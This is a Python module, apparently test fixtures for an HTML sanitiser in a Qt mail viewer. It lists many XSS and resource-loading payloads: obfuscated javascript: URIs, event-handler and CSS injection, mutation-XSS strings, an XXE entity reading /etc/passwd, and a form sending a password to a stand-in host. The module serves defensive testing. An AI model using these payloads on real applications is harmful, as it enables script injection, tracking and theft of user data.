"""HTML that would run a script, load something or send something, if a sanitiser or Qt let it: one family after the other."""

from __future__ import annotations

from itertools import product

IMAGE = "logo@example.com"
"""The Content-ID of the only image that may be shown."""

_SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\r\nscript:alert(1)",
    "\x01javascript:alert(1)", " javascript:alert(1)", "\u00a0javascript:alert(1)", "javascript\t:alert(1)", "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)", "&#x6a;avascript:alert(1)", "&#0000106avascript:alert(1)", "&#X6A;&#x61;vascript:alert(1)",
    "jav&Tab;ascript:alert(1)", "jav&NewLine;ascript:alert(1)", "java\0script:alert(1)", "javascript://example.com/%0aalert(1)",
    "vbscript:msgbox(1)", "VBSCRIPT:x", "livescript:x", "mocha:x", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "DATA:text/html,x",
    "file:///etc/passwd", "file://server/share", "\\\\server\\share", "//example.com/x", "/x", "x.html", "#x", "?x", "qrc:/x", ":/x",
    "ftp://example.com/", "ms-msdt:/id", "search-ms:query=x", "ms-word:ofe|u|https://example.com/x.docx", "tel:123", "about:blank",
    "view-source:https://example.com", "blob:https://example.com/x", "feed:javascript:alert(1)", "cid:other@example.com",
    "jar:https://example.com!/x", "https:example.com", "mailto&#58javascript:alert(1)", "ｊavascript:alert(1)",
]  # fmt: skip
_LINKS = [f'<a href="{each}">x</a>' for each in _SCHEMES] + [
    f"<a href={each}>x" for each in ("javascript:alert(1)", "'j\ns:x", "`js:x`")
]
_IMAGES = [
    f'<img src="{each}">' for each in (*_SCHEMES, "https://example.com/pixel.gif", "http://example.com", "HTTPS://EXAMPLE.COM/x")
]

_HANDLERS = [
    f"<{tag} {space}{handler}{value}>x"
    for tag, (space, handler), value in product(
        ("img src=x", "body", "p", "a href=https://example.com", "table", "svg"),
        (("", "onerror"), ("/", "OnLoad"), ("\x0c", "onmouseover"), ("x=y\n", "onclick")),
        ("=alert(1)", ' = "alert(1)"'),
    )
]
_LOADED = [
    f"<{tag} {attribute}='{url}'>x</{tag.split()[0]}>"
    for (tag, attribute), url in product(
        [
            ("body", "background"), ("table", "background"), ("td", "background"), ("img", "srcset"), ("img", "lowsrc"),
            ("img", "dynsrc"), ("img", "longdesc"), ("video", "poster"), ("video", "src"), ("audio", "src"), ("source", "srcset"),
            ("iframe", "src"), ("frame", "src"), ("embed", "src"), ("object", "data"), ("object", "codebase"), ("applet", "code"),
            ("link rel=stylesheet", "href"), ("link rel=prefetch", "href"), ("base", "href"), ("input type=image", "src"),
            ("script", "src"), ("bgsound", "src"), ("track", "src"), ("image", "src"), ("image", "xlink:href"),
            ("form", "action"), ("button", "formaction"), ("input", "formaction"), ("isindex", "action"), ("a", "ping"),
            ("blockquote", "cite"), ("html", "manifest"), ("portal", "src"), ("svg", "xlink:href"), ("use", "href"), ("meta", "content"),
        ],
        ("https://example.com/x",),
    )
]  # fmt: skip
_STYLES = [
    f"<p style=\"{each}\">x</p>"
    for each in (
        "background:url(https://example.com/x)", "background-image:url(https://example.com/x)", "color:url(https://example.com/x)",
        "color:red;background-color:url('https://example.com/x')", "width:expression(alert(1))", "color:expression(alert(1))",
        "color:exp/**/ression(alert(1))", "-moz-binding:url(https://example.com/x)", "behavior:url(x.htc)", "list-style:url(//example.com)",
        "list-style-image:url(https://example.com/x)", "cursor:url(https://example.com/x),auto", "content:url(https://example.com/x)",
        "@import 'https://example.com/x'", "color:red}@import url(https://example.com/x);p{color:red", "c\\6flor:u\\72l(x)",
        "background:\\75\\72\\6c(https://example.com/x)", "color:red;position:fixed;top:0;left:0;width:100%;height:100%",
        "color:&#117;rl(https://example.com/x)", "background-color:image-set('https://example.com/x' 1x)", "color:var(--x)",
        "color:red !important;font-family:url(x)", "text-align:left;-qt-block-indent:9999", "color:'</p><script>alert(1)</script>'",
        "border-image:url(https://example.com/x)", "mask:url(https://example.com/x)", "filter:url(https://example.com/x)", "\0color:\0red",
        "background-color:red;background-color:u&#10;rl(https://example.com/x)", "float:left;margin:-9999px", "display:none",
    )
]  # fmt: skip
_ELEMENTS = [
    "<script>alert(1)</script>", "<SCRIPT\n>alert(1)</SCRIPT\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>",
    "<script>alert(1)", "<script src=//example.com/x", "<<script>alert(1)//<</script>", "<script\0>alert(1)</script>", "<\0script>alert(1)",
    "<style>@import 'https://example.com/x';</style>", "<style>p{background:url(https://example.com/x)}</style>", "<style><!--</style><img src=https://example.com/x>",
    "<meta http-equiv=refresh content='0;url=https://example.com'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'><a href='x'>x</a>", "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe srcdoc='&lt;script&gt;alert(1)'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<frameset><frame src=javascript:alert(1)>",
    "<form action=https://example.com><input name=password><button>x</button></form>", "<textarea><img src=https://example.com/x></textarea>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>", "<video><source onerror=alert(1)></video>", "<dialog open>x</dialog>", "<isindex type=image src=https://example.com/x>",
    "<svg><script>alert(1)</script></svg>", "<svg onload=alert(1)>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>", "<svg><image href=https://example.com/x></svg>", "<svg><foreignObject><img src=https://example.com/x></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><use href=data:image/svg+xml,x#x></svg>", "<math><maction xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>", "<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<?import namespace=t implementation=https://example.com/x>", "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;", "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!--><img src=https://example.com/x>-->", "<!--<img src='--><img src=https://example.com/x>'>", "<!-- --!><script>alert(1)</script>",
    "<comment><img src='</comment><img src=https://example.com/x>'>", "<qt><img src=https://example.com/x></qt>", "<img src=:/qt-project.org/x><img src=qrc:/x>", "<template><img src=https://example.com/x></template>",
    "<slot onslotchange=alert(1)>", "<portal src=https://example.com></portal>", "<noembed><img src=https://example.com/x></noembed>", "<plaintext><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp>",
    "<listing><img src=https://example.com/x></listing>", "<title><img src=https://example.com/x></title>", "<head><link rel=stylesheet href=https://example.com/x></head>x", "<x onclick=alert(1)>x</x>", "<o:p onclick=alert(1)>x</o:p>",
]  # fmt: skip
_MUTATIONS = [
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><style></template><img src=x onerror=alert(1)>", "<title><p title=\"</title><img src=x onerror=alert(1)>\">", "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<style><p title=\"</style><img src=x onerror=alert(1)>\">", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">", "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">", "<svg><title><p title=\"</title></svg><img src=x onerror=alert(1)>\">",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script>", "<svg><desc><table><svg><style><a title=\"</style><img src onerror=alert(1)>\">", "<p title=\"&lt;/p>&lt;img src=x onerror=alert(1)>\">x",
    "<img alt=\"`><img src=x onerror=alert(1)>\" src=cid:logo@example.com>", "<img alt='x\" onerror=\"alert(1)' src=cid:logo@example.com>", "<a href='https://example.com/\" onmouseover=\"alert(1)'>x</a>",
    "<a href=\"https://example.com/'onmouseover='alert(1)\">x</a>", "<a href='https://example.com/><img src=x onerror=alert(1)>'>x</a>", "<a title='<script>alert(1)</script>' href=https://example.com>x</a>",
    "<table><tr><td><svg><style></table><img src=https://example.com/x>", "<b><table><i><svg><b><math><p><img src=https://example.com/x>", "<select><style></select><img src=https://example.com/x></style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&#60;script&#62;alert(1)", "<a href=\"mailto:x@example.com?subject=&quot;><script>alert(1)</script>\">x</a>", "\ufeff<script>alert(1)</script>",
    "<p/onclick=alert(1)>x", "<p\x0bonclick=alert(1)>x", "<p \"onclick=alert(1)>x", "<p 'x'onclick=alert(1)>x", "<img src=cid:logo@example.com/onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<img src=\"x\"onerror=alert(1)>",
    "<img src='cid:logo@example.com' src='https://example.com/x'>", "<img src='https://example.com/x' src='cid:logo@example.com'>", "<img SRC=https://example.com/x", "<img src=https://example.com/x <p>x", "<a href=javascript:alert(1) <b>x",
    "<img src='https://example.com/x", "<a href=\"javascript:alert(1)", "<p style='background:url(https://example.com/x)", "<td background=https://example.com/x", "\ud800<script>alert(1)</script>", "<img src=cid:LOGO@example.com>",
    "<img src=cid:logo%40example.com><img src='cid:logo@example.com#https://example.com'>", "<img src='cid://example.com/x'>", "<p title='a src=https://example.com/x'>", "<img data-x='y src=https://example.com/x'>", "<td colspan=99999999 rowspan=99999999>x",
]  # fmt: skip

ATTACKS = [*_LINKS, *_IMAGES, *_HANDLERS, *_LOADED, *_STYLES, *_ELEMENTS, *_MUTATIONS]
